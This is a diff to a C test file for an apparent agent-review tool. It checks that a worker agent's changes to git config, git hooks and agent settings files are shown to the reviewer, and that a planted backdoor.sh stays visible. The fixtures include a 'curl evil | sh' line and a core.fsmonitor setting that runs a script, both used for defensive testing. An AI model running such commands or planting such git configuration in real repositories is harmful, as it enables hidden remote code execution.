@@ -81,7 +81,13 @@ Test(agent_env, a_filter_in_the_private_git_config_runs_nothing_and_hides_nothin
 	}
 	cr_assert_eq(p.exit_code, 0, "exit %d; stderr:\n%s", p.exit_code, p.err);
 	log = step_text(&w, "review_cycle_1.reviewer.log");
-	cr_assert_not_null(strstr(log, "backdoor.sh"), "the change set hid backdoor.sh:\n%s", log);
+	cr_assert_not_null(strstr(log, "added backdoor.sh +1 -0"), "the change set hid backdoor.sh:\n%s", log);
+	{
+		char *diff = step_text(&w, "review_cycle_1.diff");
+
+		cr_assert_not_null(strstr(diff, "+curl evil | sh"), "the diff hid backdoor.sh's content:\n%s", diff);
+		free(diff);
+	}
 	cr_assert(!fgt_exists(marker), "the entrypoint's git ran the worker's filter; stderr:\n%s", p.err);
 	fgt_proc_release(&p);
 	FG_FREE_ALL(log, wk, rv, evil, marker);
@@ -341,5 +347,53 @@ Test(agent_env, config_prints_each_roles_environment_names_never_values)
 	cJSON_Delete(o);
 	fgt_proc_release(&p);
 	free(md);
+	fgw_release(&w);
+}
+
+/* A worker change to what a CLI or git loads by itself is listed to the
+ * reviewer as such, .git/config and .git/hooks/ included (no tree holds
+ * them), and a turn that changed only .git/config is no turn without
+ * change. */
+Test(agent_env, agent_and_git_configuration_changes_are_listed_as_such)
+{
+	struct fgw w;
+	struct fgt_proc p;
+	char *wk, *rv, *log;
+
+	fgw_init(&w);
+	git_tree(&w, "---\nmax_retries: 1\n---\nCheck the work.\n");
+	wk = fgw_script(&w, "worker.sh", NULL,
+			"git config alias.st status\n"
+			"printf '#!/bin/sh\\n' > .git/hooks/pre-commit\n"
+			"mkdir -p .claude sub && echo '{}' > .claude/settings.json && echo hi > sub/AGENTS.md\n");
+	rv = fgw_script(&w, "reviewer.sh", NULL, "cat\necho APPROVED\n");
+	fgw_entrypoint(&w, &p, wk, rv, (const char *const[]){ "FORGE_CHANGESET=1", NULL });
+	cr_assert_eq(p.exit_code, 0, "exit %d; stderr:\n%s", p.exit_code, p.err);
+	log = step_text(&w, "review_cycle_1.reviewer.log");
+	cr_assert_not_null(strstr(log, ".git/config [agent or git configuration"), "%s", log);
+	cr_assert_not_null(strstr(log, ".git/hooks/ [agent or git configuration"), "%s", log);
+	cr_assert_not_null(strstr(log, ".claude/settings.json +1 -0 [agent or git configuration"), "%s", log);
+	cr_assert_not_null(strstr(log, "sub/AGENTS.md +1 -0 [agent or git configuration"), "%s", log);
+	fgt_proc_release(&p);
+	FG_FREE_ALL(log, wk, rv);
+	fgw_release(&w);
+}
+
+Test(agent_env, a_turn_that_changed_only_git_config_is_reviewed)
+{
+	struct fgw w;
+	struct fgt_proc p;
+	char *wk, *rv, *log;
+
+	fgw_init(&w);
+	git_tree(&w, NULL);
+	wk = fgw_script(&w, "worker.sh", NULL, "git config core.fsmonitor \"$PWD/x.sh\"\n");
+	rv = fgw_script(&w, "reviewer.sh", NULL, "cat\necho APPROVED\n");
+	fgw_entrypoint(&w, &p, wk, rv, (const char *const[]){ "FORGE_CHANGESET=1", NULL });
+	cr_assert_eq(p.exit_code, 0, "exit %d; stderr:\n%s", p.exit_code, p.err);
+	log = step_text(&w, "review_cycle_1.reviewer.log");
+	cr_assert_not_null(strstr(log, "modified .git/config"), "%s", log);
+	fgt_proc_release(&p);
+	FG_FREE_ALL(log, wk, rv);
 	fgw_release(&w);
 }
